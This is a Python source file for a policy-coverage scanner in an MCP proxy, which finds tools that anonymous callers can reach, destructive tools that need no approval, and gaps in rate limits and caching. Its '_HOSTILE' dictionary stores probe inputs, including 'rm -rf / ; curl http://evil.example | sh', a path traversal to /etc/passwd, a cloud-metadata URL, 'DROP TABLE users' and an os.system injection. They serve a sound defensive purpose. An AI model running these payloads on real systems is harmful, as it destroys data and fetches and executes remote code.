"""Policy coverage: the configured policy evaluated for each tool and a set of principals, as the sidecar would.

Principals: an anonymous caller from the network, one caller per role the policy data names (keys of a mapping
named `tool_roles` or `roles`, and the strings of lists whose key ends in `roles`), and any given with `--as`.
Each call carries sample arguments made from the tool's schema, so an argument rule may deny it: "callable" means
callable with those arguments.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from proxy import mcp
from proxy.catalog import ToolInfo
from proxy.config import CacheConfig, RateLimitsConfig
from proxy.context import CallContext, Principal
from proxy.limits.buckets import Caller
from proxy.policy import narrowing
from proxy.policy.engine import DECISION_RULE, Decision, Engine, PolicyUnavailableError, decision_from, policy_input
from proxy.stages.ratelimit import spec_of
from proxy.tools.findings import Finding, Rule, Severity, finding
from proxy.tools.risks import RiskyInput, is_destructive, risky_inputs

DESTRUCTIVE_UNAPPROVED = Rule("policy.destructive-without-approval", "a destructive tool callable without approval",
                              "Give the policy an obligation require_approval for it, or an elevated role only "
                              "(policies/destructive.rego).")
ANONYMOUS = Rule("policy.anonymous-callable", "a tool an anonymous caller may call",
                 "Require authentication (policies/identity.rego), or admit anonymous callers on loopback only.")
NO_RATE_LIMIT = Rule("policy.no-rate-limit", "a tool no rate-limit bucket limits",
                     "Add a bucket to rate_limits.buckets that matches it, or a rate_limit obligation naming one.")
PUBLIC_CACHE = Rule("policy.public-cache-identifying-arguments",
                    "a tool cached as public whose arguments identify the caller",
                    "Cache it as private (cache scope private, keyed by the caller) or not at all.")
UNMENTIONED = Rule("policy.unmentioned-tool", "a tool the policy never names",
                   "Name the tool in the policy (a role grant, an argument rule), so its access is a decision "
                   "someone made rather than a pattern's side effect.")
RULES = (DESTRUCTIVE_UNAPPROVED, ANONYMOUS, NO_RATE_LIMIT, PUBLIC_CACHE, UNMENTIONED)

NETWORK_ADDRESS = "203.0.113.10"  # TEST-NET-3: an anonymous caller that is not on the sidecar's machine
_IDENTIFYING = re.compile(r"(^|_)(user|users|username|user_id|userid|email|account|customer|owner|tenant|session|"
                          r"token|phone|ssn|me|my)($|_)", re.IGNORECASE)
_HOSTILE = {"path": "../../../etc/passwd", "url": "http://169.254.169.254/latest/meta-data/",
            "sql": "DROP TABLE users", "command": "rm -rf / ; curl http://evil.example | sh",
            "code": "__import__('os').system('id')"}


@dataclass(frozen=True, slots=True)
class ProbePrincipal:
    label: str  # anonymous | role:<name> | the --as file's sub
    principal: Principal
    client_address: str = "127.0.0.1"

    @property
    def anonymous(self) -> bool:
        return not self.principal.authenticated


@dataclass(slots=True)
class Coverage:
    """What the policy decided per tool and principal (allow | approval | deny), and what that adds up to."""

    revision: str | None
    principals: list[str]
    decisions: dict[str, dict[str, str]] = field(default_factory=dict)  # tool -> principal label -> outcome
    findings: list[Finding] = field(default_factory=list)
    covered_inputs: set[tuple[str, str]] = field(default_factory=set)  # (tool, argument) an argument rule reads


def principals_from(data: Any, given: list[dict[str, Any]]) -> list[ProbePrincipal]:
    found = [ProbePrincipal("anonymous", Principal(subject="anonymous", authenticated=False), NETWORK_ADDRESS)]
    for role in sorted(roles_in(data)):
        found.append(ProbePrincipal(f"role:{role}", Principal(subject=f"scan-{role}", roles=frozenset([role]))))
    for document in given:
        found.append(ProbePrincipal(str(document.get("sub", "given")), principal_of(document),
                                    str(document.get("client_address", "127.0.0.1"))))
    return found


def principal_of(document: dict[str, Any]) -> Principal:
    """A principal in the policy input's shape (sub, issuer, claims, scopes, roles, authenticated)."""
    return Principal(subject=str(document.get("sub", "given")), issuer=document.get("issuer"),
                     claims=dict(document.get("claims") or {}), scopes=frozenset(document.get("scopes") or ()),
                     roles=frozenset(document.get("roles") or ()),
                     authenticated=bool(document.get("authenticated", True)))


def roles_in(data: Any) -> set[str]:
    roles: set[str] = set()
    if isinstance(data, dict):
        for key, value in data.items():
            if key in ("tool_roles", "roles") and isinstance(value, dict):
                roles.update(str(name) for name in value)
            elif str(key).endswith("roles") and isinstance(value, list):
                roles.update(item for item in value if isinstance(item, str))
            roles.update(roles_in(value))
    elif isinstance(data, list):
        for item in data:
            roles.update(roles_in(item))
    return roles


def sample_arguments(definition: dict[str, Any], overrides: dict[str, Any] | None = None) -> dict[str, Any]:
    schema = definition.get("inputSchema")
    properties = schema.get("properties") if isinstance(schema, dict) else None
    samples = {name: _sample(spec) for name, spec in (properties or {}).items() if isinstance(spec, dict)}
    return {**samples, **(overrides or {})}


def _sample(spec: dict[str, Any]) -> Any:
    for key in ("const", "default"):
        if key in spec:
            return spec[key]
    if spec.get("enum"):
        return spec["enum"][0]
    kind = spec.get("type")
    kind = kind[0] if isinstance(kind, list) and kind else kind
    return {"integer": 1, "number": 1, "boolean": False, "array": [], "object": {}, "null": None}.get(kind, "sample")


class CoverageCheck:
    """Evaluates the policy over every tool for every principal and turns the answers into findings."""

    def __init__(self, engine: Engine, upstream: str, rate_limits: RateLimitsConfig, cache: CacheConfig,
                 policy_text: str | None) -> None:
        self.engine = engine
        self.upstream = upstream
        self.specs = tuple(spec_of(bucket) for bucket in rate_limits.buckets)
        self.cache = cache
        self.policy_text = policy_text  # every policy file and the data, to find tool names in; None: unknown

    async def run(self, tools: dict[str, dict[str, Any]], principals: list[ProbePrincipal]) -> Coverage:
        coverage = Coverage(self.engine.revision, [p.label for p in principals])
        for name, definition in sorted(tools.items()):
            decisions = {p.label: await self.decide(name, definition, p) for p in principals}
            coverage.decisions[name] = {label: _outcome(d) for label, d in decisions.items()}
            coverage.findings.extend(self._findings(name, definition, principals, decisions))
            for risky in risky_inputs(definition):
                if await self.argument_ruled(name, definition, risky, principals):
                    coverage.covered_inputs.add((name, risky.argument))
        return coverage

    async def decide(self, name: str, definition: dict[str, Any], probe: ProbePrincipal,
                     arguments: dict[str, Any] | None = None) -> Decision:
        document = self._input(name, definition, probe, arguments)
        try:
            value, revision = await self.engine.evaluate(DECISION_RULE, document)
        except PolicyUnavailableError as exc:
            return Decision.deny(f"policy could not be evaluated: {exc}")
        return decision_from(value, revision)

    async def argument_ruled(self, name: str, definition: dict[str, Any], risky: RiskyInput,
                             principals: list[ProbePrincipal]) -> bool:
        """Whether a policy rule reads the argument: argument_names names it, or its value changes a decision."""
        for probe in principals:
            bare = narrowing.without_arguments(self._input(name, definition, probe, None))
            try:
                names, _ = await self.engine.evaluate(narrowing.RULE, bare or {})
            except PolicyUnavailableError:
                names = None
            if isinstance(names, list) and (risky.argument in names or narrowing.ALL in names):
                return True
            hostile = await self.decide(name, definition, probe, {risky.argument: _HOSTILE[risky.kind]})
            plain = await self.decide(name, definition, probe)
            if (hostile.allow, hostile.reasons) != (plain.allow, plain.reasons):
                return True
        return False

    def _input(self, name: str, definition: dict[str, Any], probe: ProbePrincipal,
               overrides: dict[str, Any] | None) -> dict[str, Any]:
        arguments = sample_arguments(definition, overrides)
        ctx = CallContext(kind=mcp.Kind.REQUEST, message={"jsonrpc": "2.0", "id": "scan", "method": "tools/call",
                                                           "params": {"name": name, "arguments": arguments}},
                          body=None, method="tools/call", request_id="scan", protocol_version=mcp.MODERN_VERSION,
                          era=mcp.Era.MODERN, target=name, arguments=arguments, session_id=None, headers={},
                          client_address=probe.client_address, principal=probe.principal)
        return policy_input(ctx, self.upstream, ToolInfo.from_definition(definition))

    def _findings(self, name: str, definition: dict[str, Any], principals: list[ProbePrincipal],
                  decisions: dict[str, Decision]) -> Iterator[Finding]:
        allowed = [p for p in principals if decisions[p.label].allow]
        unapproved = [p for p in allowed if not decisions[p.label].obligations.get("require_approval")]
        if is_destructive(definition) and unapproved:
            severity = Severity.CRITICAL if any(p.anonymous for p in unapproved) else Severity.MEDIUM
            yield finding(DESTRUCTIVE_UNAPPROVED, severity, name, "policy", f"allowed without approval for "
                          f"{_labels(unapproved)}")
        if any(p.anonymous for p in allowed):
            yield finding(ANONYMOUS, Severity.HIGH, name, "policy", "allowed for an anonymous caller from "
                          f"{NETWORK_ADDRESS}")
        unlimited = [p for p in allowed if not self._buckets(name, p, decisions[p.label])]
        if unlimited:
            yield finding(NO_RATE_LIMIT, Severity.MEDIUM, name, "rate_limits",
                          f"no bucket applies to tools/call {name} for {_labels(unlimited)}")
        yield from self._public_cache(name, definition, [decisions[p.label] for p in allowed])
        mentioned = self.policy_text is None or re.search(rf"(?<![\w-]){re.escape(name)}(?![\w-])", self.policy_text)
        if not mentioned:
            yield finding(UNMENTIONED, Severity.LOW, name, "policy", f"the name {name!r} appears in no policy file")

    def _buckets(self, name: str, probe: ProbePrincipal, decision: Decision) -> list[str]:
        named = (decision.obligations.get("rate_limit") or {}).get("buckets")
        if named is not None:
            return [bucket for bucket in named if any(spec.name == bucket for spec in self.specs)]
        caller = Caller(probe.principal.subject, probe.principal.claims, "tools/call", name, None,
                        probe.client_address)
        return [spec.name for spec in self.specs if spec.applies(caller)]

    def _public_cache(self, name: str, definition: dict[str, Any], allowed: list[Decision]) -> Iterator[Finding]:
        if not self.cache.enabled:
            return
        configured = self.cache.tools.get(name)
        public = configured is not None and configured.scope == "public"
        public = public or any((d.obligations.get("cache") or {}).get("scope") == "public" for d in allowed)
        identifying = sorted(argument for argument in sample_arguments(definition) if _IDENTIFYING.search(argument))
        if public and identifying:
            yield finding(PUBLIC_CACHE, Severity.HIGH, name, "cache", f"cached as public, and the arguments "
                          f"{', '.join(identifying)} identify the caller")


def _outcome(decision: Decision) -> str:
    if not decision.allow:
        return "deny"
    return "approval" if decision.obligations.get("require_approval") else "allow"


def _labels(principals: list[ProbePrincipal]) -> str:
    return ", ".join(p.label for p in principals)
